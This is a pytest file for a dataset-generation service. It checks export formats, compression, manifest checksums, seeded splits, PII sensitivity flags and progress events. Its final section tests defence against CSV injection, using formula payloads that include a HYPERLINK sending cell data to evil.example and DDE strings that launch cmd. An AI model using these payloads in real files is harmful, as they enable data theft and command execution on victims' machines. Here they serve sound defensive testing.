"""Export writers (read back with pyarrow, csv and json; compressed variants decompress to the
uncompressed bytes) and a whole generation against in-memory stores: the manifest's counts
and checksums match the files, and the same seed gives the same files."""

import asyncio
import gzip
import hashlib
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
import zstandard
from hypothesis import given, settings
from hypothesis import strategies as st

from services.production.generator import Generator
from services.production.templates import RENDERERS, render
from shared.artifacts import ArtifactStore
from shared.events import ExportGeneration, GenerateDataset, GenerationProgress
from shared.production import (
    COMPRESSIONS, GENERATION_FORMATS, GenerationConfig, GenerationSource, Manifest, SplitOptions, artifact_name,
)
from shared.writers import decompress, read_records, record_schema, write_records
from tests.support.factories import conversation

GEN = "f" * 32
RUN = "a" * 32

text = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30)
messages = st.lists(st.tuples(st.sampled_from(["user", "assistant"]), text), min_size=1, max_size=5).map(
    lambda ts: [{"role": "user" if i % 2 == 0 else "assistant", "content": c} for i, (_, c) in enumerate(ts)])


def write(records, fmt, compression="none", schema=None) -> tuple[bytes, object]:
    buf = io.BytesIO()
    written = write_records(buf, records, fmt, compression, schema)
    return buf.getvalue(), written


@settings(max_examples=40, deadline=None)
@given(st.lists(messages, max_size=6), st.sampled_from(GENERATION_FORMATS), st.booleans())
def test_every_format_reads_back_the_same_records(convs, fmt, ids):
    records = [({"id": f"c{i}"} if ids else {}) | {"messages": m} for i, m in enumerate(convs)]
    schema = record_schema("openai", ids)
    plain, written = write(records, fmt, "none", schema)
    assert written.records == len(records) and written.bytes == len(plain)
    assert written.sha256 == hashlib.sha256(plain).hexdigest()
    assert read_records(plain, fmt, "none", schema) == records
    for compression in ("gzip", "zstd"):
        packed, w = write(records, fmt, compression, schema)
        assert decompress(packed, compression) == plain  # the same bytes, compressed
        assert w.sha256 == hashlib.sha256(packed).hexdigest()
        assert write(records, fmt, compression, schema)[0] == packed  # deterministic


def test_standard_tools_read_the_files():
    records = [{"id": "1", "messages": [{"role": "user", "content": 'a "quoted", \nline'},
                                        {"role": "assistant", "content": "b", "name": "coach"}]}]
    schema = record_schema("openai", include_ids=True)
    table = pq.read_table(io.BytesIO(write(records, "parquet", "none", schema)[0]))
    assert table.schema == schema and table.num_rows == 1
    assert table.to_pylist()[0]["messages"][1] == {"role": "assistant", "content": "b", "name": "coach"}
    import csv

    rows = list(csv.DictReader(io.StringIO(gzip.decompress(write(records, "csv", "gzip", schema)[0]).decode())))
    assert rows[0]["id"] == "1" and json.loads(rows[0]["messages"]) == records[0]["messages"]
    assert json.loads(zstandard.ZstdDecompressor().decompressobj().decompress(
        write(records, "json", "zstd")[0])) == records
    assert write([], "json")[0] == b"[]\n"


@pytest.mark.parametrize("template", sorted(RENDERERS))
def test_every_template_has_a_schema_parquet_and_csv_accept(template):
    c = conversation(("system", "Be kind."), ("user", "I feel low."), ("assistant", "I'm sorry to hear that."),
                     ("user", "Thanks."), ("assistant", "Take care."))
    records = [render(c, template)]
    schema = record_schema(template)
    for fmt in ("parquet", "csv"):
        data, _ = write(records, fmt, "none", schema)
        assert read_records(data, fmt, "none", schema) == records, (template, fmt)


def test_unknown_names_are_refused():
    with pytest.raises(ValueError):
        write([], "xml")
    with pytest.raises(ValueError):
        write([], "jsonl", "brotli")
    with pytest.raises(ValueError):
        write([], "csv")  # no schema


# ----------------------------------------------------------------- a whole generation


class FakeRepo:
    """The production repository in memory (documents as the real one stores them)."""

    db = None

    def __init__(self, conversations, verdicts) -> None:
        self.convs = {c["_id"]: c for c in conversations}
        self.verdict_docs = verdicts
        self.generations: dict[str, dict] = {}
        self.exports: dict[str, dict] = {}

    def _items(self, run_id, dataset_id):
        """As the real one reads them from the run's scored batches (shared.scored)."""
        out = []
        for v in self.verdict_docs:
            if v["run_id"] == run_id and v["dataset_id"] == dataset_id and v["conversation_id"] in self.convs:
                doc = self.convs[v["conversation_id"]]
                out.append({"conversation": {"id": doc["_id"], **{k: doc[k] for k in (
                                "messages", "lineage", "original_format", "metadata")}},
                            "quality": doc["quality"],
                            "verdict": {k: v[k] for k in ("score", "passed", "flags", "cluster_id")}})
        return out

    async def scored_count(self, run_id, dataset_id):
        return len(self._items(run_id, dataset_id))

    async def scored_batches(self, run_id, dataset_id):
        items = self._items(run_id, dataset_id)
        for start in range(0, len(items), 5):  # batches of 5
            yield items[start:start + 5]

    async def generation(self, gid):
        return self.generations.get(gid)

    async def insert_generation(self, doc):
        self.generations.setdefault(doc["_id"], doc)
        return True

    async def set_generation(self, gid, fields):
        self.generations[gid].update(fields)

    async def set_export(self, export_id, fields):
        self.exports.setdefault(export_id, {}).update(fields)


def dataset(n: int = 40, dataset_id: str = "d0", policy: str = "redact"):
    """A run's stored conversations: its own copy of each, redacted when its policy says so
    (conversation 3 holds personal data)."""
    convs, verdicts = [], []
    for i in range(n):
        c = conversation(("user", f"Question {i // 2}: how can I cope with stress at work?"),
                         ("assistant", f"Answer {i}: try short breaks and talk to someone."),
                         dataset_id=dataset_id, record_index=i)
        flags = [{"redact": "pii_redacted", "flag": "pii_detected", "exclude": "pii_excluded"}[policy]] if i == 3 else []
        convs.append({"_id": c.id, "messages": [m.model_dump(exclude_none=True) for m in c.messages],
                      "lineage": c.lineage.model_dump(), "original_format": "openai_messages", "metadata": {},
                      "quality": {"flags": flags, "tags": ["risk:low"] if i % 5 == 0 else []}})
        verdicts.append({"run_id": RUN, "dataset_id": dataset_id, "conversation_id": c.id, "score": 0.5 + i / 100,
                         "passed": i % 10 != 9, "flags": flags, "cluster_id": c.id, "record_index": i, "part": 0})
    return convs, verdicts


def run_generation(tmp_path: Path, policy: str = "redact", seed: int = 3, gid: str = GEN, publish=None):
    convs, verdicts = dataset(policy=policy)
    repo = FakeRepo(convs, verdicts)
    gen = Generator(repo, ArtifactStore(None, tmp_path / "artifacts"), tmp_path / "work", "test", chunk=7,
                    **({"publish": publish} if publish else {}))
    config = GenerationConfig(run_ids=[RUN], include_ids=True,
                              splits=SplitOptions(train=0.6, validation=0.2, test=0.2, group_by="question", seed=seed))
    sources = [GenerationSource(run_id=RUN, dataset_id="d0", rank=0, pii_policy=policy)]
    asyncio.run(gen.generate(GenerateDataset(run_id=gid, producer="test", generation_id=gid, config=config,
                                             sources=sources)))
    return repo, gen


def check_manifest(folder: Path, doc: dict) -> Manifest:
    body = (folder / "manifest.json").read_bytes()
    assert hashlib.sha256(body).hexdigest() == doc["manifest_file"]["sha256"]
    manifest = Manifest(**json.loads(body))
    assert {f.name for f in manifest.files} == {a["name"] for a in doc["artifacts"]}
    for f in manifest.files:
        data = (folder / f.name).read_bytes()
        assert len(data) == f.bytes and hashlib.sha256(data).hexdigest() == f.sha256, f.name
        assert len(read_records(data, f.format, f.compression, record_schema("openai", True))) == f.records
        assert manifest.counts.splits[f.split] == f.records
    return manifest


def test_a_generation_writes_split_files_and_a_manifest_that_checks_out(tmp_path):
    repo, gen = run_generation(tmp_path)
    doc = repo.generations[GEN]
    assert doc["status"] == "completed", doc.get("error")
    folder = tmp_path / "artifacts" / GEN
    manifest = check_manifest(folder, doc)
    c = manifest.counts
    assert c.candidates == 40 and c.excluded == {"below_threshold": 4} and c.selected == 36
    assert sum(c.splits.values()) == 36 and set(c.splits) == {"train", "validation", "test"}
    assert c.sources == {"d0": 36} and c.pii_unredacted == 0 and manifest.sensitive is False
    assert manifest.code_version.version and manifest.code_version.git_commit
    assert doc["progress"] == {"phase": "done", "processed": 40, "total": 40}
    # group_by question: both answers to one question are in the same split
    where = {}
    for f in manifest.files:
        for r in read_records((folder / f.name).read_bytes(), "jsonl"):
            where.setdefault(r["messages"][0]["content"], set()).add(f.split)
    assert len(where) == 20 and all(len(s) == 1 for s in where.values())

    for fmt in GENERATION_FORMATS:
        for compression in COMPRESSIONS:
            asyncio.run(gen.export(ExportGeneration(run_id=GEN, producer="test", generation_id=GEN, format=fmt,
                                                    compression=compression)))
    assert all(e["status"] == "completed" for e in repo.exports.values()) and len(repo.exports) == 12
    manifest = check_manifest(folder, repo.generations[GEN])
    assert len(manifest.files) == 3 * 12
    for split in manifest.counts.splits:
        for fmt in GENERATION_FORMATS:
            plain = (folder / artifact_name(split, fmt, "none")).read_bytes()
            for compression in ("gzip", "zstd"):
                assert decompress((folder / artifact_name(split, fmt, compression)).read_bytes(), compression) == plain
            records = read_records(plain, fmt, "none", record_schema("openai", True))
            assert records == read_records((folder / artifact_name(split, "jsonl", "none")).read_bytes(), "jsonl")


def test_same_seed_same_files_and_flag_runs_are_sensitive(tmp_path):
    a, _ = run_generation(tmp_path / "a")
    b, _ = run_generation(tmp_path / "b", gid="e" * 32)
    files = lambda repo, gid: {x["name"]: x["sha256"] for x in repo.generations[gid]["artifacts"]}  # noqa: E731
    assert files(a, GEN) == files(b, "e" * 32)
    c, _ = run_generation(tmp_path / "c", seed=4)
    assert files(c, GEN) != files(a, GEN)
    flagged, _ = run_generation(tmp_path / "d", policy="flag")
    doc = flagged.generations[GEN]
    assert doc["sensitive"] is True and doc["counts"]["pii_unredacted"] == 1
    assert doc["counts"]["sensitive_conversations"] == doc["counts"]["selected"]


def test_generations_and_their_exports_report_progress_events(tmp_path):
    events: list[GenerationProgress] = []

    async def publish(event):
        events.append(event)

    repo, gen = run_generation(tmp_path, publish=publish)
    assert all(e.run_id == e.generation_id == GEN and e.producer == "production" and e.export is None for e in events)
    assert events[0].status == "running" and events[0].phase == "reading" and events[0].total == 40
    assert [e.phase for e in events[-3:]] == ["selecting", "writing", "done"]
    assert events[-1].status == "completed" and events[-1].processed == events[-1].total == 40
    assert all(e.status == "running" for e in events[:-1])

    events.clear()
    asyncio.run(gen.export(ExportGeneration(run_id=GEN, producer="test", generation_id=GEN, format="parquet",
                                            compression="gzip")))
    splits = len(repo.generations[GEN]["counts"]["splits"])
    assert [(e.export, e.status, e.phase, e.processed, e.total) for e in events] == [
        ("parquet:gzip", "running", "exporting", i, splits) for i in range(splits + 1)] + [
        ("parquet:gzip", "completed", "done", splits, splits)]

    events.clear()  # asked again: already there, completed at once
    asyncio.run(gen.export(ExportGeneration(run_id=GEN, producer="test", generation_id=GEN, format="parquet",
                                            compression="gzip")))
    assert [(e.status, e.phase) for e in events] == [("completed", "done")]

    events.clear()  # a generation that does not exist: the export fails, and says so
    asyncio.run(gen.export(ExportGeneration(run_id="0" * 32, producer="test", generation_id="0" * 32, format="csv")))
    assert [(e.generation_id, e.export, e.status) for e in events] == [("0" * 32, "csv:none", "failed")]
    assert events[0].error == "the generation is not completed"


def test_a_failed_generation_reports_its_error(tmp_path):
    events: list[GenerationProgress] = []

    async def publish(event):
        events.append(event)

    class Broken(FakeRepo):
        async def scored_batches(self, run_id, dataset_id):
            raise RuntimeError("store unreachable")
            yield  # pragma: no cover

    convs, verdicts = dataset()
    repo = Broken(convs, verdicts)
    gen = Generator(repo, ArtifactStore(None, tmp_path / "artifacts"), tmp_path / "work", "test", publish=publish)
    config = GenerationConfig(run_ids=[RUN])
    asyncio.run(gen.generate(GenerateDataset(run_id=GEN, producer="test", generation_id=GEN, config=config, sources=[
        GenerationSource(run_id=RUN, dataset_id="d0", rank=0, pii_policy="redact")])))
    assert repo.generations[GEN]["status"] == "failed"
    assert events[-1].status == "failed" and events[-1].error == "RuntimeError: store unreachable"
    assert events[-1].error == repo.generations[GEN]["error"]


# ----------------------------------------------------------------- CSV injection (OWASP)

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "'"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(cell):
    """Every cell a spreadsheet would take as a formula starts with an apostrophe in the file,
    and reading the file back gives the original text."""
    schema = record_schema("alpaca")
    record = {"instruction": cell, "input": "", "output": f"see {cell}"}
    data, _ = write([record], "csv", "none", schema)
    import csv as csv_module
    rows = list(csv_module.reader(io.StringIO(data.decode("utf-8"), newline="")))
    for value in rows[1]:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[1][rows[0].index("instruction")] == "'" + cell
    assert read_records(data, "csv", "none", schema) == [record]


@given(st.text(max_size=20, alphabet=st.sampled_from("=+-@'\t\r ab1,\"\n")))
@settings(max_examples=300, deadline=None)
def test_csv_cells_round_trip_whatever_they_start_with(cell):
    schema = record_schema("alpaca")
    record = {"instruction": cell or "x", "input": "", "output": "y"}
    data, _ = write([record], "csv", "none", schema)
    got = read_records(data, "csv", "none", schema)[0]
    assert got["instruction"] == record["instruction"]
